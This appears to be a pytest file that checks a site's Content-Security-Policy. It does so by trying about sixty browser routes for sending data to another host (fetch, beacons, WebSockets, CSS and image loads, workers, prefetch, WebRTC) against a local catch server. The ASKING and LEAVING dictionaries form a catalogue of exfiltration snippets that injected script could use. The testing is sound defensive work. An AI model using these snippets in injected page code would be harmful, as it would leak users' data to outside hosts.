"""What a script that got into a page could send away: every route that a browser has is tried, from a page and from a worker.

The policy closes all but two kinds: going to another page with something in its address, and the connections for calls (WebRTC),
which no browser lets a page forbid itself. SECURITY.md and the page about the handbook say that, and no more.
"""

import http.server
import socket
import threading
from urllib.parse import urlsplit

import pytest

from tests.browser.conftest import reading_context

# What asks for an address by itself. OUT is the address, another host's; each is tried as a script in the page would.
ASKING = {
    "fetch": "fetch(OUT, { mode: 'no-cors' })",
    "fetch with keepalive": "fetch(OUT, { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true })",
    "fetch in cors": "fetch(OUT)",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', OUT); x.send()",
    "XMLHttpRequest, synchronous": "const x = new XMLHttpRequest(); x.open('GET', OUT, false); x.send()",
    "sendBeacon": "navigator.sendBeacon(OUT, 'x')",
    "WebSocket": "new WebSocket(OUT.replace('http', 'ws'))",
    "EventSource": "new EventSource(OUT)",
    "WebTransport": "new WebTransport(OUT.replace('http:', 'https:'))",
    "image": "new Image().src = OUT",
    "image by srcset": "document.body.append(Object.assign(document.createElement('img'), { srcset: OUT + ' 1x' }))",
    "picture": "put(`<picture><source srcset='${OUT}'><img alt=''></picture>`)",
    "image in markup": "put(`<img src='${OUT}'>`)",
    "image of an svg": "put(`<svg><image href='${OUT}'/></svg>`)",
    "use of an svg": "put(`<svg><use href='${OUT}#x'/></svg>`)",
    "filter of an svg": "put(`<svg><filter id='f'><feImage href='${OUT}'/></filter><rect filter='url(#f)' width='9' height='9'/></svg>`)",
    "audio": "new Audio(OUT).play()",
    "video": "document.body.append(Object.assign(document.createElement('video'), { src: OUT, autoplay: true, muted: true }))",
    "poster": "put(`<video poster='${OUT}'></video>`)",
    "track": "put(`<video autoplay muted src='${location.href}'><track default src='${OUT}'></video>`)",
    "script": "document.head.append(Object.assign(document.createElement('script'), { src: OUT }))",
    "module": "document.head.append(Object.assign(document.createElement('script'), { src: OUT, type: 'module' }))",
    "import": "import(OUT)",
    "style sheet": "link('stylesheet')",
    "icon": "link('icon')",
    "manifest": "link('manifest')",
    "preload of a script": "link('preload', { as: 'script' })",
    "preload of an image": "link('preload', { as: 'image' })",
    "preload to fetch": "link('preload', { as: 'fetch', crossOrigin: '' })",
    "modulepreload": "link('modulepreload')",
    "prefetch": "link('prefetch')",
    "prerender": "link('prerender')",
    "preconnect": "link('preconnect')",
    "style element": "put(`<style>body { background: url(${OUT}) }</style>`)",
    "import in a style element": "put(`<style>@import url(${OUT})</style>`)",
    "style by script": "document.body.style.backgroundImage = `url(${OUT})`",
    "cursor by script": "document.body.style.cursor = `url(${OUT}), auto`",
    "adopted style sheet": "const s = new CSSStyleSheet(); s.replaceSync(`body { border-image: url(${OUT}) 1 }`); document.adoptedStyleSheets = [s]",
    "font": "new FontFace('x', `url(${OUT})`).load()",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: OUT }))",
    "frame by srcdoc": "document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: `<img src='${OUT}'>` }))",
    "frame of a blob": "document.body.append(Object.assign(document.createElement('iframe'), { src: URL.createObjectURL(new Blob([`<img src='${OUT}'><script>fetch('${OUT}')</scr` + 'ipt>'], { type: 'text/html' })) }))",
    "object": "put(`<object data='${OUT}'></object>`)",
    "embed": "put(`<embed src='${OUT}'>`)",
    "form": "const f = document.createElement('form'); f.action = OUT; f.target = 'nowhere'; f.method = 'POST'; document.body.append(f); f.submit()",
    "ping of a link": "const a = document.createElement('a'); a.href = '#x'; a.ping = OUT; document.body.append(a); a.click()",
    "worker": "new Worker(OUT)",
    "worker of a blob": "inWorker(`fetch('${OUT}', { mode: 'no-cors' })`)",
    "worker that imports": "inWorker(`importScripts('${OUT}')`)",
    "worker that dials": "inWorker(`new WebSocket('${OUT.replace('http', 'ws')}')`)",
    "shared worker": "new SharedWorker(OUT)",
    "service worker": "navigator.serviceWorker.register(OUT)",
    "worklet": "new AudioContext().audioWorklet.addModule(OUT)",
    "speculation rules": "document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [OUT], eagerness: 'immediate' }] }) }))",
    "notification's icon": "new Notification('x', { icon: OUT })",
    "report": "put(`<meta http-equiv='Content-Security-Policy' content='img-src none; report-uri ${OUT}'>`); new Image().src = '/x'",
}
# What goes to another page: no policy of a page forbids it.
LEAVING = {
    "location": "location.href = OUT",
    "location.replace": "location.replace(OUT)",
    "click on a link": "const a = document.createElement('a'); a.href = OUT; document.body.append(a); a.click()",
    "another window": "window.open(OUT)",
    "meta refresh": "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${OUT}` }))",
}
TOOLS = """
const put = (html) => document.body.insertAdjacentHTML('beforeend', html);
const link = (rel, more) => document.head.append(Object.assign(document.createElement('link'), { rel, href: OUT }, more));
const inWorker = (script) => new Worker(URL.createObjectURL(new Blob([script], { type: 'text/javascript' })));
"""


class Elsewhere(http.server.BaseHTTPRequestHandler):
    """Another host, which notes whatever reaches it."""

    def do_GET(self) -> None:
        self.server.reached.append(urlsplit(self.path).path.strip("/"))
        self.send_response(200)
        self.end_headers()

    def do_POST(self) -> None:
        self.do_GET()

    def do_HEAD(self) -> None:
        self.do_GET()

    def do_OPTIONS(self) -> None:
        self.do_GET()

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def elsewhere():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
    server.reached = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()


def attempt(page, server, name: str, script: str) -> None:
    place = f"http://127.0.0.1:{server.server_port}/{name.replace(' ', '_')}"
    page.evaluate(
        "async ([body, out]) => { try { await Promise.race([(0, eval)(body)(out), new Promise((go) => setTimeout(go, 120))]) } catch {} }",
        [f"(async (OUT) => {{ {TOOLS} {script} }})", place],
    )


def reached(server) -> set[str]:
    return {path.replace("_", " ") for path in server.reached}


def tried(chromium, address: str, server, **options) -> set[str]:
    """The routes that reached another host, of all that ask for something."""
    context = reading_context(chromium, **options)
    page = context.new_page()
    page.goto(address)
    for name, script in ASKING.items():
        attempt(page, server, name, script)
    page.wait_for_timeout(1_000)
    context.close()
    print(f"{len(ASKING)} routes tried, reached: {sorted(reached(server)) or 'none'}")
    return reached(server)


def test_of_the_routes_by_which_a_page_asks_for_something_none_reaches_another_host(chromium, site, elsewhere):
    assert set() == tried(chromium, f"{site}tools/offer/", elsewhere)


def test_without_the_policy_most_of_these_routes_would_be_open(chromium, site, elsewhere):
    """So that a route that never worked does not pass for one that is closed."""
    assert len(tried(chromium, site, elsewhere, bypass_csp=True)) > len(ASKING) / 2


@pytest.mark.parametrize("name", LEAVING)
def test_going_to_another_page_leaves_and_no_page_can_forbid_it(chromium, site, elsewhere, name):
    """The limit of the policy, held here so that what is said of it stays true."""
    context = reading_context(chromium)
    page = context.new_page()
    page.goto(site)
    attempt(page, elsewhere, name, LEAVING[name])
    page.wait_for_timeout(800)
    context.close()

    assert name in reached(elsewhere)


def test_a_call_s_connection_leaves_too(chromium, site):
    """WebRTC asks a host for the way to itself before any call."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as there:
        there.bind(("127.0.0.1", 0))
        there.settimeout(5)
        context = reading_context(chromium)
        page = context.new_page()
        page.goto(site)
        page.evaluate(
            "(port) => { const c = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)) }",
            there.getsockname()[1],
        )
        try:
            arrived = bool(there.recv(100))
        except TimeoutError:
            arrived = False
        context.close()

    assert arrived
